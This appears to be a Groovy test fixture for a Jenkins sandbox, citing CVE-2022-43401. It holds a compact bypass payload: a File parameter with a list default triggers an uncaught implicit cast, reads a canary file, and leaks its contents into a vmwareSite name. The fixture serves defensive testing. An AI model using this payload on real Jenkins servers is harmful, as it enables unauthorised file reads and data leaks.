// class: coercion
// source: Jenkins SECURITY-2824 / CVE-2022-43401 (implicit casts not intercepted)
// expect: read
// The default value of a File parameter is a list: Groovy calls new File(list[0]).
def firstLine(File f = ['@CANARY_READ@']) { f.collect { it }.join('|') }
def v = firstLine()
vmwareSite("leak-${v}") { network 'VM Network' }
